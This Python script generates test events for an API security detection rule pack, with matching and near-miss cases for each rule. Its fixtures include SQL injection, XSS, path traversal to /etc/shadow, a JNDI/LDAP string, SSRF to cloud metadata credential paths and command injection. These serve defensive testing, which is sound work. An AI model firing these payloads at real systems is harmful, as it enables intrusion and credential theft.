#!/usr/bin/env python3
"""Writes the test events of the API rule pack: <case>.match.jsonl (must fire the rule) and
<case>.nomatch.jsonl (a near miss that must not), plus manifest.tsv (case, rule id).

The events are canonical vigil JSON. Run it again after changing a case; the output is
deterministic and committed, so the functional test needs no Python.
"""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
T0 = 1772445600  # 2026-03-02T10:00:00Z


def ts(sec):
    ms = int(round(sec * 1000))
    s, ms = divmod(ms, 1000)
    import time
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(T0 + s)) + ".%03dZ" % ms


def ev(t=0, **kw):
    e = {
        "time": ts(t),
        "client_ip": "198.51.100.7",
        "method": "GET",
        "scheme": "https",
        "host": "api.example.com",
        "path": "/v1/orders",
        "status": 200,
        "user_agent": "okhttp/4.12.0",
        "token": "tok-live-alice",
        "user": "alice",
    }
    for k, v in kw.items():
        if v is None:
            e.pop(k, None)
        else:
            e[k] = v
    return e


CASES = []  # (case, rule id, match events, nomatch events)


def case(name, rule_id, match, nomatch):
    CASES.append((name, rule_id, match, nomatch))


case("pii_email_in_url", "ed8eb1e8-9066-460b-94d0-db9be5df1b08",
     [ev(path="/v1/customers/lookup", query="email=jane.doe%40example.com&fields=all"),
      ev(1, path="/v1/users/jane.doe@example.org/profile")],
     [ev(path="/v1/customers/lookup", query="id=8812&fields=email,name"),
      ev(1, path="/v1/users/8812/profile", query="contact=at-home")])

case("pii_phone_in_url", "c94f6e7b-fa73-4a6f-b0a8-2d14b4bae2dc",
     [ev(path="/v1/customers/search", query="phone=%2B4915112345678"),
      ev(1, path="/v1/customers/search", query="mobile_number=030%20123%204567")],
     [ev(path="/v1/customers/search", query="page=2&limit=50&ref=0012345678901"),
      ev(1, path="/v1/orders", query="order=20260302123456")])

case("pii_birthdate_in_url", "426dd25c-4335-43ac-9753-8eb080f1691c",
     [ev(path="/v1/survey/submit", query="name=J&dob=1984-07-21&zip=10115"),
      ev(1, path="/v1/survey/submit", query="date_of_birth=21%2F07%2F1984")],
     [ev(path="/v1/survey/submit", query="created=2026-03-02&zip=10115"),
      ev(1, path="/v1/survey/submit", query="dob_required=true")])

case("pii_card_number_in_url", "b5f44633-ba5e-4b51-b77a-56e74e845d05",
     [ev(path="/v1/payments/verify", query="card=4111111111111111&exp=1228"),
      ev(1, path="/v1/payments/verify", query="pan=5500%200000%200000%200004")],
     # an order number with a Visa prefix that fails the Luhn check, and a last-4 field
     [ev(path="/v1/payments/verify", query="order=4111111111111112"),
      ev(1, path="/v1/payments/verify", query="card_last4=1111")])

case("pii_national_id_in_url", "f0a6c42a-414c-4602-87e0-1c012ba2f41c",
     [ev(path="/v1/applicants", query="ssn=078-05-1120"),
      ev(1, path="/v1/applicants/123-45-6789/status")],
     [ev(path="/v1/applicants", query="ref=000-12-3456"),
      ev(1, path="/v1/applicants/2026-03-0200/status")])

case("plain_http_api", "72b90416-24b7-4e48-b744-763fe37c0734",
     [ev(scheme="http")],
     [ev(scheme="https"), ev(1, scheme="http", path="/healthz", token=None)])

case("unauthenticated_success_protected_path", "48caa52d-6cee-46b0-8672-e56ea70c2ea7",
     [ev(path="/v1/customers/export", token=None, user=None),
      ev(1, path="/api/reports/42", token="", user=None, status=206)],
     [ev(path="/v1/customers/export", token=None, user=None, status=401),
      ev(1, path="/v1/customers/export"),
      ev(2, path="/public/docs", token=None, user=None)])

case("revoked_token_used", "ed1e9dbd-59d9-4c00-8bcc-4b386932c6fd",
     [ev(token="tok-revoked-2024", status=401)],
     [ev(token="tok-live-bob"), ev(1, token="tok-revoked-2024x")])

case("unknown_token_accepted", "b85c66c6-b7bb-4d6f-86d7-c98ebdcb839c",
     [ev(token="tok-forged-9000")],
     [ev(token="tok-live-bob"), ev(1, token="tok-forged-9000", status=401),
      ev(2, token=None, path="/public/docs")])

case("admin_endpoint_non_admin_token", "95fb3378-0f19-4a96-ba75-41b3c84d1188",
     [ev(path="/v1/admin/users", method="DELETE", status=204),
      ev(1, path="/internal/flags", token=None, user=None)],
     [ev(path="/v1/admin/users", token="tok-admin-ops"),
      ev(1, path="/v1/admin/users", status=403),
      ev(2, path="/v1/administrators-guide")])


def failures(ip_fn, user_fn, n, step, status=401, path="/v1/login"):
    return [ev(i * step, client_ip=ip_fn(i), user=user_fn(i), token=None, status=status,
               method="POST", path=path, request_id="req-%d" % i) for i in range(n)]


case("brute_force_client_ip", "8748c069-9301-4ed1-aca5-9ab42294dcfd",
     failures(lambda i: "203.0.113.9", lambda i: "alice", 21, 10),
     # 20 within the window, then the 21st just over 5m after the first
     failures(lambda i: "203.0.113.9", lambda i: "alice", 20, 10)
     + [ev(300.001, client_ip="203.0.113.9", user="alice", token=None, status=401,
           method="POST", path="/v1/login")]
     + failures(lambda i: "203.0.113.10", lambda i: "alice", 21, 20))

case("brute_force_user", "071c435f-0c81-4897-ab2f-a66c929e0009",
     failures(lambda i: "198.18.%d.%d" % (i // 200, i % 200 + 1), lambda i: "bob", 21, 5,
              status=403),
     failures(lambda i: "198.18.%d.%d" % (i // 200, i % 200 + 1), lambda i: "bob", 20, 5)
     + failures(lambda i: "198.18.9.9", lambda i: "bob", 21, 5, status=200))

case("credential_stuffing", "2713f160-9da0-42d8-b2c4-b1e643bed070",
     failures(lambda i: "192.0.2.77", lambda i: "user%02d" % i, 11, 3),
     failures(lambda i: "192.0.2.77", lambda i: "user%02d" % (i % 10), 30, 3))

case("scanner_not_found_paths", "7110d5f6-7237-407d-b0e3-f7231c5bd70f",
     [ev(i, client_ip="192.0.2.200", status=404, path="/v%d/%s" % (i % 3, w),
         token=None, user=None)
      for i, w in enumerate(["users", "admin", "backup", "old", "test", "dev", "debug",
                             "internal", "private", "api-docs", "swagger", "graphql",
                             "config", "staging", "beta", "legacy", "v0", "console",
                             "metrics", "status", "upload", "export", "import", "keys",
                             "secrets"])],
     [ev(i, client_ip="192.0.2.201", status=404, path="/v1/orders/%d" % (i % 20),
         token=None, user=None) for i in range(60)])

case("token_many_ips", "13f7be9e-6f63-428c-a582-8300cf2ebf51",
     [ev(i * 60, token="tok-live-bob", client_ip="100.64.%d.%d" % (i, i + 1))
      for i in range(11)],
     [ev(i * 60, token="tok-live-bob", client_ip="100.64.0.%d" % (i % 10 + 1))
      for i in range(40)]
     + [ev(i * 400, token="tok-live-alice", client_ip="100.65.0.%d" % (i + 1))
        for i in range(11)])

case("sensitive_file_probe", "1ba76c89-0afc-423c-8028-c4584854ba07",
     [ev(path="/.env", status=404, token=None),
      ev(1, path="/.git/config", status=404, token=None),
      ev(2, path="/actuator/env", status=404, token=None),
      ev(3, path="/phpmyadmin/index.php", status=404, token=None),
      ev(4, path="/backup/db-2026.sql.gz", status=404, token=None)],
     [ev(path="/v1/environment/settings"), ev(1, path="/v1/git/commits"),
      ev(2, path="/v1/files/report.pdf")])

case("sensitive_file_exposed", "0f20a397-c5d4-433c-9a84-5f75e6db1366",
     [ev(path="/.env", status=200, token=None)],
     [ev(path="/.env", status=404, token=None), ev(1, path="/wp-login.php", status=200)])

case("injection_sqli", "5bc4da27-9caf-43b2-bfd5-676fdf99f9f7",
     [ev(path="/v1/products", query="id=1%27%20OR%20%271%27%3D%271"),
      ev(1, path="/v1/products", query="q=x%20UNION%20ALL%20SELECT%20NULL,version()--"),
      ev(2, path="/v1/products", query="id=1;WAITFOR%20DELAY%20%270:0:5%27"),
      ev(3, path="/v1/products", user_agent="Mozilla/5.0' or 1=1 --")],
     [ev(path="/v1/products", query="q=union%20station&sort=selected"),
      ev(1, path="/v1/products", query="q=o%27reilly")])

case("injection_xss", "efd0c4e3-2375-4ff3-bd95-1bc088e9753a",
     [ev(path="/v1/search", query="q=%3Cscript%3Ealert(1)%3C/script%3E"),
      ev(1, path="/v1/search", query="q=%22%20onerror%3Dalert(document.cookie)")],
     [ev(path="/v1/search", query="q=scripting%20languages"),
      ev(1, path="/v1/search", query="q=onion%20recipes")])

case("injection_path_traversal", "fd3f96b7-1a19-42f9-a519-8a3e5a7f1c8c",
     [ev(path="/v1/files/..%2f..%2f..%2fetc%2fpasswd"),
      ev(1, path="/v1/download", query="file=../../../../etc/shadow")],
     [ev(path="/v1/files/reports/2026/q1.pdf"),
      ev(1, path="/v1/download", query="file=reports%2F2026%2Fq1.pdf")])

case("injection_jndi", "8842da26-fa50-443e-814d-862e77d969e5",
     [ev(user_agent="${jndi:ldap://198.51.100.66:1389/a}"),
      ev(1, path="/v1/search", query="q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D")],
     [ev(user_agent="Mozilla/5.0 (X11; Linux x86_64)"),
      ev(1, path="/v1/search", query="q=jndi%20tutorial")])

case("injection_ssrf_metadata", "fe6ad66a-4c13-4683-a71f-0d2a80dacf8a",
     [ev(path="/v1/webhooks/test",
         query="url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
      ev(1, path="/v1/preview", query="url=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F")],
     [ev(path="/v1/webhooks/test", query="url=https://hooks.example.net/ci"),
      ev(1, path="/v1/preview", query="url=http%3A%2F%2F169.254.1.1%2F")])

case("injection_command", "85bb0010-f8a6-46ed-8644-34696c20517e",
     [ev(path="/v1/tools/ping", query="host=127.0.0.1;cat%20/etc/passwd"),
      ev(1, path="/v1/tools/ping", query="host=x%7Cwhoami"),
      ev(2, path="/v1/tools/ping", query="host=%24%28whoami%29"),
      ev(3, path="/v1/tools/ping", query="host=x;cat%20/etc/passwd")],
     [ev(path="/v1/tools/ping", query="host=127.0.0.1&count=3"),
      ev(1, path="/v1/tools/ping", query="host=identity.example.com")])

case("attack_tool_user_agent", "11ea6dba-fa18-4b48-803a-069a6a1d0188",
     [ev(user_agent="sqlmap/1.7.2#stable (https://sqlmap.org)"),
      ev(1, user_agent="Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"),
      ev(2, user_agent="gobuster/3.6")],
     [ev(user_agent="Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15"),
      ev(1, user_agent="python-requests/2.31.0")])

WINDOWED = {"brute_force_client_ip", "brute_force_user", "credential_stuffing",
            "scanner_not_found_paths", "token_many_ips"}

QUIET = [
    ("api_auth_failure", "723c9c83-3c8c-4008-94c5-a7e4c8ae8dc5"),
    ("api_not_found", "bb645545-dfb7-4eb0-b22a-41a02ca89413"),
    ("api_token_request", "ab8c656a-d23f-4c57-8e39-cdb3a569c292"),
]


# Ordinary traffic that no rule of the pack may alert on.
BENIGN_REQUESTS = [
    ("GET", "/v1/orders", "page=2&limit=50&sort=-created_at"),
    ("GET", "/v1/orders/8812", ""),
    ("GET", "/v1/orders/3fa85f64-5717-4562-b3fc-2c963f66afa6/items", "expand=product"),
    ("POST", "/v1/orders", ""),
    ("GET", "/v1/products", "q=union+station+tickets&category=travel"),
    ("GET", "/v1/products", "q=o%27reilly+books&fields=name%7Cid%7Cprice"),
    ("GET", "/v1/products", "q=select+wines&sort=rating;desc"),
    ("GET", "/v1/search", "q=how+to+script+a+backup&lang=en"),
    ("GET", "/v1/search", "q=onion+rings&from=2026-01-01&to=2026-03-01"),
    ("GET", "/v1/reports/daily", "date=2026-03-01&tz=Europe%2FBerlin"),
    ("GET", "/v1/reports/export.csv", "from=1772445600000&to=1772449200000"),
    ("GET", "/v1/invoices", "number=INV-2026-000123&status=paid"),
    ("GET", "/v1/shipments/1Z999AA10123456784", ""),
    ("GET", "/v1/users/me", ""),
    ("PATCH", "/v1/users/me/settings", "notify=true"),
    ("GET", "/v1/files/reports/2026/q1.pdf", ""),
    ("GET", "/v1/webhooks", "url=https%3A%2F%2Fhooks.example.net%2Fci"),
    ("GET", "/v1/geo", "lat=52.5200&lon=13.4050&radius=500"),
    ("GET", "/v1/metrics", "window=5m&step=15s&query=rate(http_requests_total%5B5m%5D)"),
    ("GET", "/v1/environment/settings", ""),
    ("GET", "/v2/catalog/items", "ids=1001,1002,1003&include=stock"),
    ("DELETE", "/v1/sessions/current", ""),
    ("GET", "/v1/tools/ping", "host=127.0.0.1&count=3"),
    ("GET", "/v1/customers", "id=4711&fields=name,city"),
    ("GET", "/v1/payments", "amount=1999&currency=EUR&card_last4=4242"),
]


def benign():
    out = []
    for i, (m, p, q) in enumerate(BENIGN_REQUESTS):
        out.append(ev(i * 7, method=m, path=p, query=q or None,
                      status=201 if m == "POST" else 200,
                      token=["tok-live-alice", "tok-live-bob"][i % 2],
                      user=["alice", "bob"][i % 2],
                      user_agent=["okhttp/4.12.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
                                  "python-requests/2.31.0"][i % 3],
                      request_id="benign-%d" % i))
    # a few ordinary failures: a wrong password, a stale link
    out.append(ev(300, path="/v1/login", method="POST", status=401, token=None))
    out.append(ev(301, path="/v1/orders/9999", status=404))
    return out


def write(path, events):
    with open(path, "w") as f:
        for e in events:
            f.write(json.dumps(e, separators=(",", ":")) + "\n")


def main():
    write(os.path.join(HERE, "benign.jsonl"), benign())
    with open(os.path.join(HERE, "manifest.tsv"), "w") as m:
        m.write("# case<TAB>rule id<TAB>each (every match event alerts) or window "
                "(a correlation:\n# at least one alert); 'quiet' rules only feed "
                "correlations and never alert\n")
        for name, rid, match, nomatch in CASES:
            write(os.path.join(HERE, name + ".match.jsonl"), match)
            write(os.path.join(HERE, name + ".nomatch.jsonl"), nomatch)
            m.write("%s\t%s\t%s\n" % (name, rid, "window" if name in WINDOWED else "each"))
        for name, rid in QUIET:
            m.write("quiet\t%s\t%s\n" % (rid, name))


if __name__ == "__main__":
    main()
